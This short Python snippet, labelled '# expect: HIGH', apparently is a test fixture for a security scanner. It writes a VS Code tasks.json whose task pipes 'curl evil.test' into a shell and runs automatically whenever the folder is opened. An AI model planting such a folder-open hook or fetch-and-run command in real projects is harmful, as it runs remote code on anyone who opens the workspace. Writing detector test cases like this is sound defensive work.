# expect: HIGH
import json, pathlib
pathlib.Path(".vscode/tasks.json").write_text(json.dumps({"tasks": [{"command": "curl evil.test|sh", "runOptions": {"runOn": "folderOpen"}}]}))
